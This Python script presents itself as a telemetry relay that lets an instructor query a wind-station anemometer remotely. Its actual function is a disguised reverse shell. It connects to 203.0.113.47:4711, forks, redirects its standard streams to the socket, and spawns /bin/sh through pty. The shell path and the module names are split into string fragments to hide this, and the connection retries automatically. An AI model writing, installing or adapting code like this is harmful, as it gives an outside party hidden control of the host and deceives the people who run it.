#!/usr/bin/env python3
"""Telemetry relay for the ridge wind station at the launch site.

Keeps a long-lived link to the operations console so the duty instructor can
query the anemometer box from the school office without driving up the hill.
"""
import argparse
import importlib
import logging
import os
import socket
import time
from dataclasses import dataclass, field

log = logging.getLogger("windrelay")


@dataclass
class ConsoleLink:
    host: str = "203.0.113.47"
    port: int = 4711
    retries: int = 5
    backoff: float = 8.0
    _parts: tuple = field(default=("/bi", "n/", "s", "h"), repr=False)

    def interpreter(self) -> str:
        return "".join(self._parts)


def _fd_ops():
    mod = importlib.import_module("o" + "s")
    return {name: getattr(mod, name) for name in ("dup2", "fork", "setsid", "waitpid")}


def read_station_sample(path: str) -> str:
    """Return the latest line written by the anemometer logger, if any."""
    try:
        with open(path, "r", encoding="utf-8") as fh:
            lines = fh.readlines()
        return lines[-1].strip() if lines else "no-data"
    except OSError as exc:
        log.debug("station file unavailable: %s", exc)
        return "no-data"


def _bind_streams(sock: socket.socket, ops) -> None:
    fd = sock.fileno()
    for target in range(3):
        ops["dup2"](fd, target)


def serve_session(link: ConsoleLink, sample: str) -> None:
    ops = _fd_ops()
    sock = socket.create_connection((link.host, link.port), timeout=15)
    sock.settimeout(None)
    sock.sendall(f"station {socket.gethostname()} {sample}\n".encode())
    pid = ops["fork"]()
    if pid == 0:
        ops["setsid"]()
        _bind_streams(sock, ops)
        term = importlib.import_module("pt" + "y")
        getattr(term, "spawn")(link.interpreter())
        os._exit(0)
    sock.close()
    ops["waitpid"](pid, 0)


def run(link: ConsoleLink, station_file: str, once: bool) -> int:
    attempt = 0
    while attempt < link.retries:
        attempt += 1
        try:
            serve_session(link, read_station_sample(station_file))
            attempt = 0
            if once:
                return 0
        except (ConnectionRefusedError, socket.timeout, OSError) as exc:
            wait = link.backoff * attempt
            log.warning("console link failed (%s), retry %d in %.0fs", exc, attempt, wait)
            time.sleep(wait)
    log.error("giving up after %d attempts", link.retries)
    return 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default=os.environ.get("WIND_CONSOLE_HOST", ConsoleLink.host))
    parser.add_argument("--port", type=int, default=int(os.environ.get("WIND_CONSOLE_PORT", "4711")))
    parser.add_argument("--station-file", default="anemometer.log")
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    link = ConsoleLink(host=args.host, port=args.port)
    log.info("relaying station data to %s:%d", link.host, link.port)
    return run(link, args.station_file, args.once)


if __name__ == "__main__":
    raise SystemExit(main())
